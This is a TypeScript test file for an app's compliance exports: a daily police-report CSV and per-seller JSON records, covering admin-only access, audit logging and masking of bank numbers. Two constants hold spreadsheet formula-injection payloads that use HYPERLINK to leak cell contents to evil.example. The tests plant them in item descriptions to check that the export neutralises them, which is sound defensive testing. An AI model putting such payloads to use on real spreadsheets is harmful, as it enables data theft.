// The compliance exports (issue 13 item 5): the day's police report (CSV) and one seller's records
// (JSON), with ID numbers decrypted only there, each download audited, admins only.
import { and, eq, inArray, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { businessDateOf, kycSubmissionSchema, policeReportFileName, centsToDecimalString } from '@assay/domain';
import {
  auditLog,
  itemLocations,
  kycRecords,
  submissionImages,
  submissionItems,
  submissions,
  transactions,
  users,
} from '../../src/db/schema/index.ts';
import { personalDataContext, sealText, UNREADABLE } from '../../src/lib/personal-data.ts';
import { reviewKyc, submitKyc } from '../../src/modules/compliance/kyc/kyc.service.ts';
import {
  achDetails,
  bareOfferedSubmission,
  currentUser,
  insertImage,
  offeredSubmission,
  postJson,
  signUpAdmin,
} from '../support/payouts.fixtures.ts';
import { giveSellerAddress } from '../support/report-lines.ts';
import { HOME_ADDRESS, saveAddress } from '../support/addresses.ts';
import { expectAdminsOnly } from '../support/admins-only.ts';
import { csvRecords, parseCsv } from '../support/csv-parser.ts';
import { sealedProfileAddress } from '../support/sealed-addresses.ts';
import { signUp } from '../support/sessions.ts';
import { createTestApp, engines, TEST_ORIGIN, type TestApp } from '../support/test-app.ts';

const TIME_ZONE = 'America/New_York';
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
// Inert in a spreadsheet that splits it on ";" (a European locale) or ",": each part would be a cell.
const HOSTILE_AFTER_SEPARATORS = 'Gold ring;=HYPERLINK("http://evil.example/?leak="&A1), +1+1;@SUM(1)';
const DAY = 86_400_000;

describe.each(engines)('compliance reports on %s', (engine) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp(engine, { BUSINESS_TIME_ZONE: TIME_ZONE });
  });
  afterAll(() => t.close());

  const get = (url: string, cookie?: string) => t.app.inject({ url, headers: cookie ? { cookie } : {} });
  const today = () => businessDateOf(new Date(), TIME_ZONE);
  const report = (date: string, cookie: string) => get(`/api/admin/compliance/police-report?date=${date}`, cookie);

  /** A seller with an approved ID, an address, and an offer they accept (a purchase, now). */
  async function purchase(admin: Awaited<ReturnType<typeof signUpAdmin>>, description: string) {
    const seller = await signUp(t.app, { firstName: 'Ada', lastName: 'Lovelace' });
    expect((await saveAddress(t.app, seller.cookie)).statusCode).toBe(200);
    const idPhoto = await insertImage(t.db, seller.id);
    // As the route hands it over: parsed by the domain's schema.
    const details = kycSubmissionSchema.parse({
      fullName: 'Ada Lovelace',
      dateOfBirth: '1990-12-10',
      idType: 'drivers_license',
      idNumber: 'd123-4567-890',
      idIssuer: 'fl',
      idImageId: idPhoto,
    });
    await submitKyc(t.app.ctx, currentUser(seller), details);
    const [record] = await t.db.select().from(kycRecords).where(eq(kycRecords.userId, seller.id));
    await reviewKyc(t.app.ctx, admin.user, { recordId: record!.id, approve: true });
    const sub = await bareOfferedSubmission(t.db, seller.id, '1250.00', { description, actualWeight: 12.5 });
    await t.db.update(submissions).set({ material: 'gold-14k' }).where(eq(submissions.id, sub.id));
    const photo = await insertImage(t.db, seller.id, { purpose: 'submission', submissionId: sub.id, position: 0 });
    const paid = await postJson(
      t.app,
      '/api/transactions',
      { submissionId: sub.id, payoutMethod: 'ach', payoutDetails: achDetails },
      seller.cookie,
    );
    expect(paid.statusCode, paid.body).toBe(201);
    const [payout] = await t.db.select().from(transactions).where(eq(transactions.submissionId, sub.id));
    return { seller, sub, photo, payout: payout! };
  }

  it('answers appraisers only', async () => {
    const client = await signUp(t.app);
    await expectAdminsOnly(
      t.app,
      [
        ['GET', `/api/admin/compliance/police-report?date=${today()}`],
        ['GET', `/api/admin/compliance/seller/${client.id}/records`],
        ['GET', '/api/admin/compliance/report-day'],
      ],
      client.cookie,
    );
  });

  it("writes today's purchase with every column, leaves out yesterday's, and audits the download", async () => {
    const admin = await signUpAdmin(t.app, t.db);
    const todays = await purchase(admin, HOSTILE);
    const yesterdays = await purchase(admin, 'Silver bracelet');
    const split = await purchase(admin, HOSTILE_AFTER_SEPARATORS);
    await t.db
      .update(transactions)
      .set({ createdAt: sql`${transactions.createdAt} - interval '1 day'` })
      .where(eq(transactions.id, yesterdays.payout.id));

    const res = await report(today(), admin.cookie);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${policeReportFileName(today())}"`);
    expect(res.headers['cache-control']).toBe('no-store');

    const records = csvRecords(res.body);
    const ids = records.map((r) => r['Transaction ID']);
    expect(ids).toContain(todays.payout.id);
    expect(ids).not.toContain(yesterdays.payout.id);
    const row = records.find((r) => r['Transaction ID'] === todays.payout.id)!;
    // Every text cell is quoted: each line is quoted cells between commas (the columns are all text).
    const lines = res.body.split('\r\n').filter(Boolean);
    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
    expect(records.find((r) => r['Transaction ID'] === split.payout.id)!['Item description']).toBe(
      `Gold ring;'=HYPERLINK("http://evil.example/?leak="&A1), '+1+1;'@SUM(1)`,
    );
    expect(row).toEqual({
      'Transaction ID': todays.payout.id,
      // A purchase from before items existed is one row, with no item id.
      'Item ID': '',
      'Purchase date and time': expect.stringMatching(new RegExp(`^${today()} \\d{2}:\\d{2}:\\d{2} -0[45]:00$`)),
      'Seller name': 'Ada Lovelace',
      'Seller address': `${HOME_ADDRESS.name}, 12 Main Street, Apt 4B, Springfield, IL 62701`,
      'Date of birth': '1990-12-10',
      'ID type': "Driver's license",
      'ID number': 'D1234567890',
      'ID issuer': 'FL',
      // The formula guard: a spreadsheet shows the text, never runs it.
      'Item description': `'${HOSTILE}`,
      'Article code': 'JEWELRY-GOLD',
      'Metal/karat': 'Gold 14K',
      Weight: '12.5 grams',
      'Purchase price (USD)': '1250.00',
      'Amount paid (USD)': centsToDecimalString(todays.payout.amount),
      'Photo links': `${TEST_ORIGIN}/api/objects/${todays.photo}`,
    });

    const [entry] = await t.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'police_report_exported'), eq(auditLog.actorId, admin.id)));
    expect(entry).toMatchObject({
      entityType: 'compliance',
      entityId: `police-report:${today()}`,
      changes: { reportDate: today(), recordCount: records.length },
    });
    // The audit log names the day, never an ID number.
    expect(JSON.stringify(entry)).not.toContain('D1234567890');
  });

  it('answers a header alone for a day before any purchase, and refuses a bad or future date', async () => {
    const admin = await signUpAdmin(t.app, t.db);
    const empty = await report('2001-01-01', admin.cookie);
    expect(empty.statusCode).toBe(200);
    expect(parseCsv(empty.body)).toHaveLength(1);
    expect(parseCsv(empty.body)[0]).toContain('ID issuer');

    const tomorrow = businessDateOf(new Date(Date.now() + DAY), TIME_ZONE);
    const cases: [string, string][] = [
      ['24-11-2026', 'Please give the report date as YYYY-MM-DD, for example 2026-11-24.'],
      ['2026-02-30', '2026-02-30 is not a date on the calendar.'],
      [tomorrow, `${tomorrow} is still to come: the report can cover today (${today()}) at the latest.`],
    ];
    for (const [date, message] of cases) {
      const res = await report(date, admin.cookie);
      expect(res.statusCode, date).toBe(400);
      expect(res.json().message).toContain(message);
    }
    const missing = await get('/api/admin/compliance/police-report', admin.cookie);
    expect(missing.statusCode).toBe(400);
    const exports = await t.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'police_report_exported'), eq(auditLog.actorId, admin.id)));
    expect(exports.map((e) => e.entityId)).toEqual(['police-report:2001-01-01']);
  });

  it('writes one row per bought item, each with its tag, article code, its own photos and the seller ID details', async () => {
    const admin = await signUpAdmin(t.app, t.db);
    const seller = await signUp(t.app, { firstName: 'Ada', lastName: 'Lovelace' });
    const sub = await bareOfferedSubmission(t.db, seller.id, '900.00', { description: 'Ring and coin' });
    await giveSellerAddress(t.db, seller.id);
    const ring = crypto.randomUUID();
    const coin = crypto.randomUUID();
    const returned = crypto.randomUUID();
    const item = (
      id: string,
      position: number,
      category: 'jewelry' | 'scrap',
      material: 'gold-18k' | 'silver',
      description: string,
    ) => ({
      id,
      submissionId: sub.id,
      position,
      category,
      description,
      estimatedWeight: '5',
      weightUnit: 'grams' as const,
      material,
      preliminaryQuoteMin: 100,
      preliminaryQuoteMax: 500,
      declaredValue: 500,
    });
    await t.db
      .insert(submissionItems)
      .values([
        item(ring, 1, 'jewelry', 'gold-18k', 'Wedding ring'),
        item(coin, 2, 'scrap', 'silver', 'Silver dollar'),
        { ...item(returned, 3, 'jewelry', 'silver', 'Kept bracelet'), outcome: 'returned' as const },
      ]);
    await t.db.insert(itemLocations).values([
      { itemId: ring, place: 'vault' },
      { itemId: coin, place: 'vault' },
    ]);
    const ringPhoto = await insertImage(t.db, seller.id, { purpose: 'submission', submissionId: sub.id, position: 0 });
    const coinPhoto = await insertImage(t.db, seller.id, { purpose: 'submission', submissionId: sub.id, position: 1 });
    await t.db.update(submissionImages).set({ itemId: ring }).where(eq(submissionImages.id, ringPhoto));
    await t.db.update(submissionImages).set({ itemId: coin }).where(eq(submissionImages.id, coinPhoto));
    const paid = await postJson(t.app, '/api/transactions', { submissionId: sub.id, payoutMethod: 'check' }, seller.cookie);
    expect(paid.statusCode, paid.body).toBe(201);
    const tags = await t.db
      .select()
      .from(itemLocations)
      .where(inArray(itemLocations.itemId, [ring, coin]));
    const tagOf = (id: string) => tags.find((l) => l.itemId === id)!.tag;

    const rows = csvRecords((await report(today(), admin.cookie)).body).filter(
      (r) => r['Seller name'] === 'Ada Lovelace' && r['Item description'] !== '',
    );
    const mine = rows.filter((r) => [tagOf(ring), tagOf(coin)].includes(r['Item ID']!));
    expect(mine).toHaveLength(2);
    expect(rows.some((r) => r['Item description'] === 'Kept bracelet')).toBe(false);
    const [ringRow, coinRow] = [tagOf(ring), tagOf(coin)].map((tag) => mine.find((r) => r['Item ID'] === tag)!);
    expect(ringRow).toMatchObject({
      'Item description': 'Wedding ring',
      'Article code': 'JEWELRY-GOLD',
      'Metal/karat': 'Gold 18K',
      'Photo links': `${TEST_ORIGIN}/api/objects/${ringPhoto}`,
      'Seller name': 'Ada Lovelace',
    });
    expect(coinRow).toMatchObject({
      'Item description': 'Silver dollar',
      'Article code': 'SCRAP-SILVER',
      'Photo links': `${TEST_ORIGIN}/api/objects/${coinPhoto}`,
    });
    expect(ringRow!['Transaction ID']).toBe(coinRow!['Transaction ID']);
  });

  it('says "not recorded" for the ID details of a seller whose purchase needed no ID', async () => {
    const admin = await signUpAdmin(t.app, t.db);
    const seller = await signUp(t.app, { firstName: 'Grace', lastName: 'Hopper' });
    const sub = await offeredSubmission(t.db, seller.id, '300.00', { description: 'Sterling spoons' });
    const paid = await postJson(t.app, '/api/transactions', { submissionId: sub.id, payoutMethod: 'check' }, seller.cookie);
    expect(paid.statusCode, paid.body).toBe(201);

    const records = csvRecords((await report(today(), admin.cookie)).body);
    const row = records.find((r) => r['Item description'] === 'Sterling spoons')!;
    // Without ID the line carries the seller's name and address (the purchase needed them, issue 28 item 6).
    expect(row).toMatchObject({
      'Seller name': 'Grace Hopper',
      'Seller address': 'Casey Client, 12 Main Street, Albany, NY 12207',
      'Date of birth': 'not recorded',
      'ID type': 'not recorded',
      'ID number': 'not recorded',
      'ID issuer': 'not recorded',
      'Photo links': expect.stringMatching(new RegExp(`^${TEST_ORIGIN}/api/objects/`)),
    });
  });

  it("exports one seller's records with the ID number, never a whole bank number, and audits it", async () => {
    const admin = await signUpAdmin(t.app, t.db);
    const { seller, sub, payout } = await purchase(admin, '14k chain');
    const res = await get(`/api/admin/compliance/seller/${seller.id}/records`, admin.cookie);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="assay-seller-.+\.json"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body).not.toContain(achDetails.accountNumber);
    expect(res.body).not.toContain(achDetails.routingNumber);

    const records = res.json();
    expect(records.account).toMatchObject({ id: seller.id, email: seller.email });
    expect(records.addresses.profile).toMatchObject({ line1: '12 Main Street', state: 'IL' });
    expect(records.kycRecords).toEqual([
      expect.objectContaining({ status: 'approved', idNumber: 'D1234567890', idIssuer: 'FL', dateOfBirth: '1990-12-10' }),
    ]);
    expect(records.submissions).toEqual([expect.objectContaining({ id: sub.id, description: '14k chain' })]);
    expect(records.payouts).toEqual([
      expect.objectContaining({
        id: payout.id,
        payoutDetails: { accountName: 'Ada Lovelace', accountLast4: '6789', routingLast4: '0015' },
      }),
    ]);
    // No statement signed by this seller (their state asks none): an empty list.
    expect(records.statements).toEqual([]);
    expect(records.auditEntries.map((e: { action: string }) => e.action)).toEqual(
      expect.arrayContaining(['kyc_submitted', 'kyc_approved', 'payout_requested']),
    );

    const [entry] = await t.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'seller_records_exported'), eq(auditLog.entityId, seller.id)));
    expect(entry).toMatchObject({ actorId: admin.id, entityType: 'user' });

    const unknown = await get(`/api/admin/compliance/seller/${crypto.randomUUID()}/records`, admin.cookie);
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().message).toBe('That seller was not found.');
  });

  it('says so in the cell when no configured key opens a date of birth or a street, and still exports the rest', async () => {
    const admin = await signUpAdmin(t.app, t.db);
    const { seller } = await purchase(admin, '18k ring');
    // Written with a key this app was never given (a key dropped from ENCRYPTION_KEYS_PREVIOUS too soon).
    const lostKey = 'c'.repeat(64);
    const [record] = await t.db.select().from(kycRecords).where(eq(kycRecords.userId, seller.id));
    await t.db
      .update(kycRecords)
      .set({ encryptedDateOfBirth: sealText(lostKey, '1990-12-10', personalDataContext.dateOfBirth(record!.id)) })
      .where(eq(kycRecords.id, record!.id));
    await t.db
      .update(users)
      .set(sealedProfileAddress(lostKey, seller.id, HOME_ADDRESS))
      .where(eq(users.id, seller.id));

    const res = await get(`/api/admin/compliance/seller/${seller.id}/records`, admin.cookie);
    expect(res.statusCode, res.body).toBe(200);
    const records = res.json();
    expect(records.kycRecords[0]).toMatchObject({ idNumber: 'D1234567890', dateOfBirth: UNREADABLE });
    expect(records.addresses.profile).toEqual({ ...HOME_ADDRESS, line1: UNREADABLE, line2: null, phone: UNREADABLE });
  });

  it("answers the business's today for the report form", async () => {
    const admin = await signUpAdmin(t.app, t.db);
    const res = await get('/api/admin/compliance/report-day', admin.cookie);
    expect(res.json()).toEqual({ today: today(), timeZone: TIME_ZONE });
  });
});
